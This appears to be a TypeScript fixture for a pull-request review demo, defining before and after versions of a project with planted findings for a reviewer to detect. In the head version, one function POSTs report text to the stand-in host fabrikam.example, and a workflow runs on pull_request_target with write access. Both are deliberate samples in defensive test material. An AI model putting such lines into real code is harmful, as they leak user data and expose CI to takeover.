/** A demo's pull request: settings and files of both versions. One of each kind of finding is in it. */

const commit = { before: "1".repeat(40), after: "2".repeat(40) };

interface Version {
  /** Settings over those of your `Pulumi.local.yaml`. */
  readonly settings: Readonly<Record<string, unknown>>;
  /** Callers besides your own. */
  readonly callers: readonly string[];
  /** By path; undefined: the version doesn't have it. */
  readonly files: Readonly<Record<string, string | undefined>>;
}

const build = (uses: string, version: string) => `name: demo build
on: pull_request
permissions: {}
jobs:
  build:
    runs-on: ubuntu-24.04
    permissions:
      contents: read
    steps:
      - uses: actions/checkout@${uses} # ${version}
        with:
          persist-credentials: false
`;

const labels = (event: string, level: string) => `name: demo labels
on: ${event}
permissions: {}
jobs:
  label:
    runs-on: ubuntu-24.04
    permissions:
      contents: ${level}
    steps:
      - run: echo labels
`;

const report = (line: string) => `/** Counts the lines of a report. */
export async function demoReport(text: string): Promise<number> {
${line}  return text.split("\\n").length;
}
`;

const accepted = `- finding: location/wider
  subject: office
  reason: The office has a second line, ticket 4711
  decidedBy: Ada Lovelace
  until: "2099-12-31"
`;

const location = (range: string) => ({
  conditionalAccess: {
    state: "enforced",
    namedLocations: { office: { cidrs: [range] } },
    emergencyAccounts: ["emergency1@contoso.com", "emergency2@contoso.com"],
    apiOnlyFrom: ["office"],
  },
});

export const demoBase: Version = {
  settings: { ...location("203.0.113.0/28"), refusedCallersAlert: alert(20) },
  callers: ["warehouse"],
  files: {
    ".github/workflows/demo-build.yml": build(commit.before, "v6.0.1"),
    ".github/workflows/demo-labels.yml": labels("pull_request", "read"),
    "docs/demo.md": "# Demo\n\nWho is on call.\n",
    "functions/src/demo-report.ts": report(""),
    "test/demo-report.test.ts": 'import { expect, it } from "vitest";\n\nit("counts", () => expect(1).toBe(1));\n',
    "accepted-findings.yaml": undefined,
  },
};

export const demoHead: Version = {
  settings: { ...location("203.0.113.0/27"), retentionDays: 60 },
  callers: ["partner"],
  files: {
    ".github/workflows/demo-build.yml": build(commit.after, "v6.0.2"),
    ".github/workflows/demo-labels.yml": labels("pull_request_target", "write"),
    "docs/demo.md": "# Demo\n\nWho is on call at night.\n",
    "functions/src/demo-report.ts": report(
      '  await fetch("https://fabrikam.example", { method: "POST", body: text });\n',
    ),
    "test/demo-report.test.ts": undefined,
    "accepted-findings.yaml": accepted,
  },
};

/** What a visitor can compare the review with. */
export const demoStory: readonly string[] = [
  "The caller partner is new, and the caller warehouse is gone.",
  "The alert about refused callers is gone.",
  "The office's address range doubled, which accepted-findings.yaml accepts.",
  "A workflow runs on pull_request_target and may write, and another gets a newer action.",
  "A file that ships sends to https://fabrikam.example.",
  "A test is deleted, and a docs page is reworded.",
];

function alert(threshold: number) {
  return { threshold, windowMinutes: 15, emails: ["oncall@contoso.com"] };
}
